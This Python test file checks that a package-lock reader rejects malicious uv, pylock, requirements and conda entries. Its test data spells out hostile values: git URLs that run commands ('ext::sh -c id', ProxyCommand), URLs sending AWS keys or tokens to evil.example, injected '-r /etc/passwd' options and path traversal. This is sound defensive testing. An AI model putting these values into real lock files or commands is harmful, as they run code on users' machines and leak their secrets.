"""Locks of Python packages that lead uv to other files, other words, other hosts or endless work; read before anything is trusted."""

from __future__ import annotations

import netrc
import os
import tempfile
import threading
import time
from pathlib import Path

import pytest

from gitml.core.model.environment import EnvironmentSource, EnvironmentSpec
from gitml.core.planner.project_files import settings_in
from gitml.errors import InputError
from gitml.execute.environments.conda.packages import pypi_package
from gitml.execute.environments.index_passwords import passwords_for
from gitml.execute.environments.locks.requirements import parse_requirements
from gitml.execute.environments.locks.selection import select
from gitml.execute.environments.locks.target import target_of
from gitml.execute.environments.locks.uv_lock import exported

SHA = "ab" * 32
COMMIT = "cd" * 20
TARGET = target_of("linux-x86_64", "3.12")
PROJECT = '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.9"\ndependencies = ["a"]\n'
OWN = """\
version = 1
revision = 2
requires-python = ">=3.9"

[[package]]
name = "x"
version = "1"
source = { virtual = "." }
dependencies = [{ name = "a" }]

[package.metadata]
requires-dist = [{ name = "a" }]

"""
GOOD = f'wheels = [{{ url = "https://index.example/a-1-py3-none-any.whl", hash = "sha256:{SHA}" }}]'


def locked(files: str = GOOD, source: str = 'registry = "https://index.example/simple"') -> str:
    return f'{OWN}[[package]]\nname = "a"\nversion = "1"\nsource = {{ {source} }}\n{files}\n'


def export(project: str, lock: str, *, name: str = "") -> bytes:
    """What uv says of a lock of a project, or of a script by `name`."""
    if name:
        files = ((name, project.encode()), (f"{name}.lock", lock.encode()))
        return exported(EnvironmentSource(EnvironmentSpec("script", name), files), os.environ)
    files = (("uv.lock", lock.encode()), ("pyproject.toml", project.encode()))
    return exported(EnvironmentSource(EnvironmentSpec("uv", "uv.lock"), files), os.environ)


def pylock(part: str) -> bytes:
    return f'lock-version = "1.0"\ncreated-by = "t"\n[[packages]]\nname = "a"\nversion = "1"\n{part}\n'.encode()


@pytest.mark.parametrize(
    "said",
    [
        'index = "corp=https://evil.example/simple"',  # uv has a password for the index of that name
        'index = "https://index.example/simple https://evil.example"',
        'index = "/home/user/wheels"',
        'index = "file:///home/user/wheels"',
        'index = "https://${TOKEN}.evil.example/simple"',
    ],
)
def test_no_index_of_a_lock_is_more_than_one_address(said: str) -> None:
    wheels = f'[[packages.wheels]]\nurl = "https://x.example/a-1-py3-none-any.whl"\nhashes = {{sha256 = "{SHA}"}}'
    with pytest.raises(InputError, match="no address on the network"):
        select(pylock(f"{said}\n{wheels}"), "pylock.toml", TARGET)


@pytest.mark.parametrize(
    "part",
    [
        f'[packages.archive]\nurl = "https://x.example/a.tar.gz\\n--index-url=http://evil"\nhashes = {{sha256 = "{SHA}"}}',
        f'[packages.archive]\nurl = "https://x.example/a.tar.gz ; python_version < \'3\'"\nhashes = {{sha256 = "{SHA}"}}',
        f'[packages.archive]\nurl = "https://evil.example/${{AWS_SECRET_ACCESS_KEY}}.tar.gz"\nhashes = {{sha256 = "{SHA}"}}',
        f'[packages.archive]\nurl = "file:///home/user/a.tar.gz"\nhashes = {{sha256 = "{SHA}"}}',
        f'[packages.archive]\nurl = "https://x.example/a.tar.gz"\nsubdirectory = "../.."\nhashes = {{sha256 = "{SHA}"}}',
        f'[packages.archive]\nurl = "https://x.example/a.tar.gz"\nsubdirectory = "a\\n-r b"\nhashes = {{sha256 = "{SHA}"}}',
        '[packages.archive]\nurl = "https://x.example/a.tar.gz"\nhashes = {sha256 = "ab\\n-r /etc/passwd"}',
        f'[packages.vcs]\ntype = "git"\nurl = "ext::sh -c id"\ncommit-id = "{COMMIT}"',
        f'[packages.vcs]\ntype = "git"\nurl = "file:///home/user/secret"\ncommit-id = "{COMMIT}"',
        '[packages.vcs]\ntype = "git"\nurl = "https://x.example/a"\ncommit-id = "main"',
        f'[packages.vcs]\ntype = "git"\nurl = "https://x.example/a?b="\ncommit-id = "{COMMIT}"',
        f'[packages.vcs]\ntype = "git"\nurl = "https://x.example/a#b"\ncommit-id = "{COMMIT}"',
    ],
)
def test_nothing_of_a_pylock_becomes_more_words_another_file_or_what_can_change(part: str) -> None:
    with pytest.raises(InputError):
        select(pylock(part), "pylock.toml", TARGET)


@pytest.mark.parametrize(
    "line",
    [
        f"a @ /home/user/project@{COMMIT}",
        f"a @ FILE:///home/user/a.tar.gz --hash=sha256:{SHA}",
        f"a @ ../project --hash=sha256:{SHA}",
        f"a @ git+ext::sh@{COMMIT}",
        f"a @ git+file:///home/user/secret@{COMMIT}",
        f"a @ git+https://x.example/a@main --hash=sha256:{SHA}",
        f"a @ git+http://x.example/a@{COMMIT}",
        f"a @ git+https://x.example/a?b=@{COMMIT}",
        f"a @ git+https://x.example/a#egg=b@{COMMIT}",
        f"a @ git+ssh://-oProxyCommand=id/a@{COMMIT}",
        f"a @ git+ssh://x@-oProxyCommand=id/a@{COMMIT}",
        f"a @ git+https://x.example/a@{COMMIT}#subdirectory=../..",
        f"a @ https://evil.example/${{AWS_SECRET_ACCESS_KEY}}.tar.gz --hash=sha256:{SHA}",
        "a @ https://x.example/a.tar.gz#sha256=",
        "a==1\x1b[31m",
        "a===-rfoo",
        "a[x\x1b]==1",
        "a==1 --hash=sha256:x;-r",
    ],
)
def test_no_line_of_a_requirements_file_is_anything_but_a_package(line: str) -> None:
    with pytest.raises(InputError):
        parse_requirements("requirements.txt", line.encode())


def test_packages_of_pypi_in_a_conda_lock_name_no_variable_of_the_user() -> None:
    with pytest.raises(InputError, match="without a URL"):
        pypi_package("x:1", "a", "1", f"sha256:{SHA}", "https://evil.example/${TOKEN}/a-1-py3-none-any.whl")


@pytest.mark.parametrize("place", ["http://x.example/a", "file:///home/user/a"])
def test_a_repository_in_a_conda_lock_is_reached_by_https_or_ssh_alone(place: str) -> None:
    with pytest.raises(InputError, match="repository at"):
        pypi_package("x:1", "a", "1", "", f"git+{place}@{COMMIT}")


NETRC = """\
machine own.example login u password one
machine tls.example login u password "two \\" words"
machine plain.example login u password three
machine 127.0.0.1 login u password four
machine other.example login u password five
default login u password six
"""


def test_a_lock_has_no_password_sent_in_plain_text_nor_where_a_redirect_leads(tmp_path: Path) -> None:
    (tmp_path / "netrc").write_text(NETRC)
    of_lock = (
        f"a @ https://tls.example/a.whl --hash=sha256:{SHA}",
        "http://plain.example/simple",
        "http://127.0.0.1:8000/simple",
        "https://evil.example/https:other.example/",
        "https://other.example@evil.example/",
        "https://[broken/",
    )
    given = passwords_for(str(tmp_path / "netrc"), ["http://own.example/simple https://u:p@x.example"], of_lock)
    (tmp_path / "given").write_text(given)
    hosts = netrc.netrc(tmp_path / "given").hosts
    passwords = {host: password for host, (_, _, password) in hosts.items()}
    assert passwords == {"own.example": "one", "tls.example": 'two " words', "127.0.0.1": "four"}


@pytest.mark.parametrize(
    ("files", "source"),
    [
        ('wheels = [{{ path = "a-1-py3-none-any.whl" }}]', 'registry = "{folder}"'),
        (
            'wheels = [{{ url = "file://{folder}/a-1-py3-none-any.whl" }}]',
            'registry = "https://index.example/simple"',
        ),
        (
            'sdist = {{ url = "file://{folder}/a-1-py3-none-any.whl" }}',
            'registry = "https://index.example/simple"',
        ),
    ],
)
def test_no_file_of_the_machine_is_opened_to_find_its_hash(tmp_path: Path, files: str, source: str) -> None:
    os.mkfifo(tmp_path / "a-1-py3-none-any.whl")  # which would be waited for
    begun = time.monotonic()
    with pytest.raises(InputError, match="no hash"):
        export(PROJECT, locked(files.format(folder=tmp_path), source.format(folder=tmp_path)))
    assert time.monotonic() - begun < 10


def test_no_workspace_that_another_user_of_the_machine_put_above_says_what_is_locked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = locked().replace('source = { virtual = "." }', 'source = { virtual = "gitml-lock-1" }')
    evil = evil.replace('name = "a"', 'name = "evil"').replace(
        "\n[[package]]", '\n[manifest]\nmembers = ["x"]\n[[package]]', 1
    )
    (tmp_path / "pyproject.toml").write_text('[tool.uv.workspace]\nmembers = ["gitml-lock-*"]\n')
    (tmp_path / "uv.lock").write_text(evil)
    (tmp_path / "uv.toml").write_text('required-version = "<0.0.1"\n')
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    assert b'name = "a"' in export(PROJECT, locked())
    script = '# /// script\n# requires-python = ">=3.9"\n# dependencies = ["a"]\n# ///\n'
    lock = locked().partition("[[package]]")[0] + '[manifest]\nrequirements = [{ name = "a" }]\n\n[[package]]\n'
    lock += locked().rpartition("[[package]]")[2]
    assert b'name = "a"' in export(script, lock, name="uv.toml")  # which is no file of settings


@pytest.mark.parametrize("members", ['["../*"]', '["/home/*"]', '["a/../../b"]', "['..']"])
def test_no_workspace_leads_out_of_its_folder(members: str) -> None:
    with pytest.raises(InputError, match="leads out of its folder"):
        export(f"{PROJECT}[tool.uv.workspace]\nmembers = {members}\n", locked())


def _within(seconds: float, work: object) -> None:
    thread = threading.Thread(target=work, daemon=True)  # type: ignore[arg-type]
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"it takes longer than {seconds:g} s"


def _refused(project: str, lock: str, name: str = "") -> object:
    def work() -> None:
        with pytest.raises(InputError):
            export(project, lock, name=name)

    return work


def test_a_lock_costs_no_more_time_than_its_size() -> None:
    deep = "a" + ".a" * 200_000 + " = 1\n"
    _within(10, _refused(deep, locked()))
    _within(10, _refused(PROJECT, deep))
    _within(10, _refused('"' + "q" * 300 + '"' + ".a" * 200_000 + " = 1\n", locked()))
    _within(10, _refused("# /// script\n" * 200_000, locked(), "s.py"))
    _within(10, _refused("# /// script\n" + "# \n" * 400_000, locked(), "s.py"))
    groups = "".join(
        f'{name}{n} = [{{include-group = "g{n + 1}"}}, {{include-group = "h{n + 1}"}}]\n'
        for n in range(40)
        for name in "gh"
    )
    _within(10, _refused(f'{PROJECT}[dependency-groups]\n{groups}g40 = ["b"]\nh40 = ["b"]\n', locked()))


def test_a_requirements_file_costs_no_more_time_than_its_size() -> None:
    def work() -> None:
        for text in ("name: x\n" * 500_000, "a==1 \\\n" * 7_000_000):
            with pytest.raises(InputError, match=r"more than|larger than"):
                parse_requirements("requirements.txt", text.encode())

    _within(10, work)


@pytest.mark.parametrize("version", ["9" * 5000, "3." + "9" * 5000])
def test_a_number_of_thousands_of_digits_in_a_marker_is_an_error(version: str) -> None:
    locked = parse_requirements("requirements.txt", f"a==1 ; python_full_version > '{version}'\n".encode())
    with pytest.raises(InputError, match="not an environment marker"):
        locked.on(TARGET)


def test_the_settings_of_a_project_cost_no_more_time_than_their_size() -> None:
    def work() -> None:
        with pytest.raises(InputError, match="more than 64 parts"):
            settings_in({"pyproject.toml": b"[a" + b".a" * 200_000 + b"]\n"})

    _within(10, work)


def test_a_good_lock_is_read() -> None:
    """What the tests above rest on."""
    assert SHA.encode() in export(PROJECT, locked())
